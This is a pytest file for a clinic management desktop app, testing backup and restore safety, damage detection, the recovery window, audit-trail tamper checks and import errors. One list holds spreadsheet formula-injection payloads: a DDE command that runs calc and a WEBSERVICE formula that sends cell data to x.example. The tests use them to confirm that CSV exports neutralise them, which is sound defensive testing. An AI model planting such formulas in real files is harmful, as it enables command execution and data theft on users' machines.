"""A restore that cannot erase the clinic, damage caught rather than copied (issue 24 §1)."""

import datetime as dt
import sqlite3
from pathlib import Path

import pytest

from nest_desktop.db import integrity
from nest_desktop.db.models import Patient, Site, User, database
from nest_desktop.domain import clock
from nest_desktop.services import backup, settings
from nest_desktop.services import patients as patient_service
from tests.conftest import PASSWORD

pytestmark = pytest.mark.sqlite_only


def add_patients(count: int, prefix: str = "Diop") -> None:
    for index in range(count):
        patient_service.create_patient(patient_service.PatientForm(
            last_name=prefix, first_names=f"Awa {chr(65 + index)}"))


def damage(path) -> None:
    """Overwrites the middle of the file with garbage, as a failing disk would."""
    database.execute_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    size = path.stat().st_size
    with path.open("r+b") as handle:
        handle.seek(size // 2)
        handle.write(b"\xde\xad\xbe\xef" * 1024)


@pytest.mark.clock("2026-12-04 18:00")
def test_restoring_the_oldest_listed_copy_later_in_the_day_brings_it_back(db, tmp_path):
    """The defect: the safety copy's pruning deleted the copy being restored, and the
    missing file, opened by sqlite3.connect, was an empty database copied over the live
    one (0 patients, 0 users, "copy restored")."""
    settings.put("backup.folder", str(tmp_path / "copies"))
    settings.put("backup.keep_days", 30)
    add_patients(3)
    oldest = backup.back_up_now(dt.datetime(2026, 11, 4, 9, 0))  # 30 days and 9 hours ago
    add_patients(2, "Fall")
    backup.back_up_now(dt.datetime(2026, 11, 20, 9, 0))
    report = backup.restore(oldest.path)
    backup.reopen_after_restore()
    assert Patient.select().count() == 3 and User.select().count() == 1
    assert (report.before["patient"], report.after["patient"]) == (5, 3)
    assert oldest.path.exists() and oldest.path.stat().st_size > 0  # kept: protected
    assert report.safety_copy.exists()


def test_a_missing_an_empty_or_a_foreign_file_is_refused_and_nothing_changes(db, tmp_path):
    settings.put("backup.folder", str(tmp_path / "copies"))
    add_patients(2)
    missing = tmp_path / "nest-2026-11-01_090000.sqlite3"
    empty = tmp_path / "empty.sqlite3"
    empty.write_bytes(b"")
    foreign = tmp_path / "foreign.sqlite3"
    with sqlite3.connect(foreign) as connection:
        connection.execute("CREATE TABLE t (x)")
    for path, words in ((missing, "n’existe pas"), (empty, "vide"),
                        (foreign, "n’est pas une copie")):
        with pytest.raises(backup.BackupError) as refused:
            backup.restore(path)
        assert words in str(refused.value), refused.value
    assert not missing.exists()  # never created by opening it
    assert Patient.select().count() == 2 and backup.backups() == []


@pytest.mark.clock("2026-12-04 18:00")
def test_a_damaged_database_is_reported_not_copied_and_the_good_copies_are_kept(db, tmp_path):
    settings.put("backup.folder", str(tmp_path / "copies"))
    settings.put("backup.keep_days", 7)
    add_patients(26)
    good = backup.back_up_now(dt.datetime(2026, 11, 1, 9, 0))  # older than the days kept
    leftover = tmp_path / "copies" / "nest-2026-11-30_090000.partial"
    leftover.write_bytes(b"half a copy")
    damage(backup.database_file())
    with pytest.raises(backup.DatabaseDamaged) as refused:
        backup.back_up_now(dt.datetime(2026, 12, 4, 9, 0))
    assert "endommagée" in str(refused.value)
    assert [b.path for b in backup.backups()] == [good.path]  # no damaged copy listed
    # nothing else in the folder: no half copy, no journal beside a copy
    assert [p.name for p in (tmp_path / "copies").iterdir()] == [good.path.name]
    # and the good copy restores the clinic
    backup.restore(good.path)
    backup.reopen_after_restore()
    assert Patient.select().count() == 26


@pytest.mark.sqlite_only
@pytest.mark.clock("2026-12-04 18:00")
def test_damage_the_short_start_check_missed_is_found_once_the_window_shows(db):
    """At start the schema and the small tables are checked (a large clinic's whole file
    takes seconds); the whole of it off the GUI thread once the window shows."""
    from nest_desktop.services import demo

    demo.generate(1500)  # enough pages for the damage to fall outside the small tables
    damage(backup.database_file())
    assert backup.startup_problem(backup.database_file()) is None  # not in what it reads
    with pytest.raises(backup.DatabaseDamaged) as found:
        backup.check_whole()
    assert "endommagée" in str(found.value) and "restaurer" in str(found.value)


@pytest.mark.clock("2026-12-04 18:00")
def test_old_good_copies_are_not_pruned_while_the_newer_ones_are_bad(db, tmp_path):
    settings.put("backup.folder", str(tmp_path / "copies"))
    settings.put("backup.keep_days", 60)
    add_patients(26)
    good = backup.back_up_now(dt.datetime(2026, 11, 1, 9, 0))
    bad = backup.back_up_now(dt.datetime(2026, 12, 3, 9, 0))
    settings.put("backup.keep_days", 7)
    with bad.path.open("r+b") as handle:  # damaged on the USB drive
        handle.seek(bad.size // 2)
        handle.write(b"\x00\xff" * 4096)
    assert backup.prune(clock.now()) == []
    assert good.path.exists()
    Site.create(name="Clinique Nest Ouakam")
    newest = backup.back_up_now(dt.datetime(2026, 12, 4, 9, 0))  # a good one again
    assert not good.path.exists()  # now the old one may go
    assert newest.path.exists()


def test_the_file_check_reads_without_creating_or_writing(tmp_path):
    missing = tmp_path / "nest.sqlite3"
    with pytest.raises(integrity.Damaged):
        integrity.check(missing)
    assert not missing.exists()
    truncated = tmp_path / "truncated.sqlite3"
    truncated.write_bytes(integrity.SQLITE_HEADER + b"\x00" * 84)
    with pytest.raises(integrity.Damaged):
        integrity.check(truncated)


# --- at start: damage caught, and the recovery window -------------------------------------------

@pytest.fixture
def damaged_clinic(db, tmp_path):
    """A copy of the clinic (its administrator Clémence, three patients) beside a database
    file that a power cut left empty."""
    from nest_desktop.db.connection import close_database
    from nest_desktop.services import desk as desk_service

    folder = tmp_path / "clinic"
    settings.put("backup.folder", str(folder / "backups"))
    add_patients(3)
    desk_service.create_user(desk_service.UserForm(
        "Awa Ndiaye", "Awa", "secretary", None, "awa", PASSWORD, PASSWORD))
    copy = backup.back_up_now(dt.datetime(2026, 12, 3, 19, 0))
    close_database()
    live = folder / "nest.sqlite3"
    live.write_bytes(b"")
    return live, copy


def test_an_empty_or_damaged_file_at_start_is_damage_not_a_new_clinic(tmp_path):
    missing = tmp_path / "nest.sqlite3"
    assert backup.startup_problem(missing) is None  # a new clinic
    missing.write_bytes(b"")
    assert "est vide (0\u00a0octet)" in backup.startup_problem(missing)
    missing.write_bytes(integrity.SQLITE_HEADER + b"\x10\x00" + b"\xff" * 200)
    assert "endommagée" in backup.startup_problem(missing)


def test_recovery_puts_a_copy_back_for_an_administrator_of_that_copy(damaged_clinic):
    from nest_desktop.db.connection import close_database, open_database, sqlite_url
    from nest_desktop.services import ValidationFailed

    live, copy = damaged_clinic
    [found] = backup.recovery_copies(live)
    assert (found.path, found.counts["patient"], found.counts["user"], found.problem) == (
        copy.path, 3, 2, "")
    with pytest.raises(ValidationFailed) as refused:
        backup.recover(live, copy.path, "clemence", "not her password")
    assert set(refused.value.errors) == {"password"}
    with pytest.raises(ValidationFailed) as refused:
        backup.recover(live, copy.path, "awa", PASSWORD)
    assert refused.value.errors == {"login": "Seul un administrateur peut restaurer une copie."}
    assert live.stat().st_size == 0  # nothing touched yet
    aside = backup.recover(live, copy.path, " Clemence ", PASSWORD)
    assert aside.exists() and aside.stat().st_size == 0 and aside.name.startswith(
        "nest.damaged-")
    assert backup.startup_problem(live) is None
    open_database(sqlite_url(live))
    try:
        backup.record_recovery(copy.path, aside, "clemence")
        assert Patient.select().count() == 3
        from nest_desktop.db.models import AuditEntry

        entry = AuditEntry.select().order_by(AuditEntry.id.desc()).first()
        assert (entry.action, entry.user_name) == ("restore", "Clémence Diatta")
    finally:
        close_database()


def test_the_recovery_window_lists_the_copies_and_restores_one(qtbot, damaged_clinic,
                                                               monkeypatch):
    from PySide6.QtWidgets import QMessageBox

    from nest_desktop.ui.recovery import RecoveryDialog

    live, copy = damaged_clinic
    monkeypatch.setattr(QMessageBox, "information", lambda *args, **kwargs: None)
    dialog = RecoveryDialog(live, backup.startup_problem(live))
    qtbot.addWidget(dialog)
    qtbot.waitUntil(lambda: dialog.copies != [])  # read off the GUI thread
    assert dialog.table.rowCount() == 1 and dialog.table.currentRow() == 0
    assert [dialog.table.item(0, column).text() for column in (0, 1, 2, 4)] == [
        "03/12/2026 19:00", "3", "2", "bonne"]
    dialog.login.setText("clemence")
    dialog.password.setText("wrong password")
    dialog.restore()
    assert dialog.fields["password"].error.text() == (
        "Identifiant ou mot de passe incorrect pour cette copie.")
    assert dialog.result() == 0 and live.stat().st_size == 0
    dialog.password.setText(PASSWORD)
    dialog.restore()
    assert dialog.result() == 1 and backup.startup_problem(live) is None


def test_the_start_opens_the_recovery_window_on_a_damaged_database(qtbot, damaged_clinic,
                                                                    monkeypatch):
    from nest_desktop import app
    from nest_desktop.db.connection import sqlite_url
    from nest_desktop.ui import recovery

    live, copy = damaged_clinic
    shown = []

    def refuse(dialog):
        qtbot.waitUntil(lambda: dialog.copies != [])  # read off the GUI thread
        shown.append(dialog.copies[0].path)
        return 0

    monkeypatch.setattr(recovery.RecoveryDialog, "exec", refuse)
    assert app.recovered_if_damaged(sqlite_url(live)) is False
    assert shown == [copy.path] and live.stat().st_size == 0  # never taken for a new clinic


def test_a_database_on_a_network_share_is_refused(tmp_path, monkeypatch):
    from nest_desktop.db import connection

    mounts = ("/dev/sda1 / ext4 rw 0 0\n"
              "//serveur/partage /mnt/clinique cifs rw,vers=3.0 0 0\n"
              "serveur:/export /mnt/nfs\\040share nfs4 rw 0 0\n")
    assert connection.mount_type(Path("/mnt/clinique/nest.sqlite3"), mounts) == "cifs"
    assert connection.mount_type(Path("/mnt/nfs share/nest.sqlite3"), mounts) == "nfs4"
    assert connection.mount_type(Path("/mnt/cliniqueX/nest.sqlite3"), mounts) == "ext4"
    assert connection.mount_type(Path("/home/awa/nest.sqlite3"), mounts) == "ext4"
    monkeypatch.setattr(connection, "on_network_share", lambda path: True)
    with pytest.raises(connection.NetworkShareRefused) as refused:
        connection.open_database(connection.sqlite_url(tmp_path / "nest.sqlite3"))
    assert "partage réseau" in str(refused.value) and "serveur partagé" in str(refused.value)
    assert not (tmp_path / "nest.sqlite3").exists()


# --- data in files (issue 24 §4) ----------------------------------------------------------------

PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(A:A)", '=WEBSERVICE("http://x.example/?"&A1)',
            "+HYPERLINK(\"http://x.example\")", "-2+3+cmd|' /C calc'!A0", "\tleading tab",
            "\rleading return"]


def test_every_csv_export_neutralises_what_a_spreadsheet_would_run(db, tmp_path):
    """Stored as typed, exported as text: the OWASP payloads reach Excel with a leading
    apostrophe; a phone number or a negative number is left alone."""
    import csv

    from nest_desktop.services import segments

    for index, payload in enumerate(PAYLOADS):
        patient_service.create_patient(patient_service.PatientForm(
            last_name="Diop", first_names="Awa " + "abcdefg"[index],
            address=payload.replace("\t", " ").replace("\r", " ") if index > 4 else payload,
            email="", phones=["77 123 45 6" + str(index)]))
    assert Patient.get(Patient.first_names == "Awa a").address == PAYLOADS[0]  # as typed
    path = tmp_path / "segment.csv"
    from nest_desktop.services.exports import spreadsheet_safe, write_csv

    write_csv(path, ["Adresse", "Nombre"], [[p, "-5"] for p in PAYLOADS] + [["+221771234567",
                                                                            "12,5"]], ";")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert [row[0] for row in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert rows[-1] == ["+221771234567", "12,5"] and rows[1][1] == "-5"
    assert spreadsheet_safe("Awa") == "Awa" and spreadsheet_safe(12) == 12
    # the exports go through the same writer: a name typed as a formula
    patient_service.create_patient(patient_service.PatientForm(
        last_name="@SUM(A:A)", first_names="=cmd|' /C calc'!A"))
    segments.export_csv(tmp_path / "patients.csv", segments.SegmentFilter(), ";")
    with (tmp_path / "patients.csv").open(encoding="utf-8-sig", newline="") as handle:
        exported = [row[:2] for row in csv.reader(handle, delimiter=";")]
    assert ["'@SUM(A:A)", "'=cmd|' /C calc'!A"] in exported


@pytest.mark.skipif(__import__("os").name != "posix", reason="POSIX file modes")
def test_the_database_its_copies_and_exports_are_readable_by_the_user_alone(db, tmp_path):
    from nest_desktop.services.exports import write_csv

    settings.put("backup.folder", str(tmp_path / "copies"))
    copy = backup.back_up_now(dt.datetime(2026, 12, 3, 19, 0))
    export = tmp_path / "export.csv"
    write_csv(export, ["Nom"], [["Diop"]], ";")
    for path in (backup.database_file(), copy.path, export):
        assert path.stat().st_mode & 0o777 == 0o600, path


# --- a tamper-evident trail that survives a restore ---------------------------------------------

def test_the_audit_trail_is_chained_and_a_direct_edit_or_removal_is_found(db):
    from nest_desktop.db.models import AuditEntry
    from nest_desktop.services import audit

    add_patients(4)
    report = audit.verify()
    assert report.broken_at is None and report.checked == AuditEntry.select().count()
    entries = list(AuditEntry.select().order_by(AuditEntry.id))
    assert all(e.chain and len(e.chain) == 64 for e in entries)
    assert entries[3].previous_chain == entries[2].chain
    # someone edits an entry in the database file directly
    victim = entries[4]
    database.execute_sql("UPDATE audit_entry SET details = 'rien' WHERE id = ?"
                         if database.param == "?" else
                         "UPDATE audit_entry SET details = 'rien' WHERE id = %s", (victim.id,))
    report = audit.verify(batch=3)
    assert (report.broken_at.id, report.problem) == (victim.id, "changed")
    database.execute_sql("UPDATE audit_entry SET details = %s WHERE id = %s".replace(
        "%s", database.param), (victim.details, victim.id))
    assert audit.verify().broken_at is None
    # or removes one: the next entry no longer follows an entry that is there
    AuditEntry.delete().where(AuditEntry.id == entries[2].id).execute()
    report = audit.verify()
    assert (report.broken_at.id, report.problem) == (entries[3].id, "missing_before")


@pytest.mark.clock("2026-12-04 08:00")
def test_a_restore_keeps_the_entries_written_since_the_copy_marked(db, tmp_path):
    from nest_desktop.db.models import AuditEntry
    from nest_desktop.services import audit

    settings.put("backup.folder", str(tmp_path / "copies"))
    add_patients(2)
    copy = backup.back_up_now(dt.datetime(2026, 12, 4, 8, 0))
    clock.set_now(dt.datetime(2026, 12, 4, 10, 0))
    add_patients(1, "Fall")  # after the copy: its trail entry must survive the restore
    clock.set_now(dt.datetime(2026, 12, 4, 18, 0))
    backup.restore(copy.path)
    backup.reopen_after_restore()
    assert Patient.select().count() == 2
    kept = [e for e in AuditEntry.select() if e.details.startswith("[écrit avant")]
    assert any(e.table == "patient" and e.action == "create" for e in kept)
    assert all(copy.path.name in e.details for e in kept)
    assert audit.verify().broken_at is None


def test_settings_verify_the_trail_and_say_where_it_breaks(qtbot, db):
    from nest_desktop.db.models import AuditEntry
    from nest_desktop.ui.settings.settings_page import SettingsPage
    from tests.test_gui import settle

    page = SettingsPage(None)
    qtbot.addWidget(page)
    page.verify_audit()
    settle(qtbot, lambda: page.audit_message.text().startswith("Le journal est intact"))
    first = AuditEntry.select().order_by(AuditEntry.id).first()
    AuditEntry.update(user_name="Quelqu’un d’autre").where(AuditEntry.id == first.id).execute()
    page.verify_audit()
    settle(qtbot, lambda: page.audit_message.text().startswith("Le journal est rompu"))
    assert f"l’entrée {first.id} du" in page.audit_message.text()
    assert "modifiée après son écriture" in page.audit_message.text()


def test_an_import_too_large_unreadable_or_broken_gets_a_message_never_a_raw_error(db,
                                                                                   tmp_path,
                                                                                   monkeypatch):
    from nest_desktop.services import ValidationFailed, prospects

    header = "full_name;phone_number;email\n"
    cases = {
        "field beyond the reader's limit": (header + "Fatou Sow;771234567;f@s.sn\n" * 3
                                            + "Awa Diop;771234568;" + "x" * 200_000 + "\n")
        .encode("utf-8"),
        # a UTF-16 export (Meta's) holding an unpaired surrogate
        "unpaired surrogate": b"\xff\xfe" + (header + "Awa ").encode("utf-16-le")
        + b"\x00\xd8" + "Diop;771234567;a@b.sn\n".encode("utf-16-le"),
    }
    for name, data in cases.items():
        path = tmp_path / f"{len(data)}.csv"
        path.write_bytes(data)
        with pytest.raises(ValidationFailed) as refused:
            prospects.read_leads(path, "facebook", "appointment", None)
        message = refused.value.errors["file"]
        assert "Ligne" in message or "caractère" in message, (name, message)
    # a NUL byte (Python's reader takes it): the row is refused with its message
    nul = tmp_path / "nul.csv"
    nul.write_bytes((header + "Awa\x00 Diop;771234567;a@b.sn\n").encode("utf-8"))
    [row] = prospects.preview_import(prospects.read_leads(nul, "facebook", "appointment",
                                                          None))
    assert "caractère de contrôle invisible" in row.message, row.message
    monkeypatch.setattr(prospects, "IMPORT_MAX_BYTES", 1000)
    big = tmp_path / "big.csv"
    big.write_text(header + "Awa Diop;771234567;a@b.sn\n" * 100, encoding="utf-8")
    with pytest.raises(ValidationFailed) as refused:
        prospects.read_leads(big, "facebook", "appointment", None)
    assert "trop volumineux" in refused.value.errors["file"]
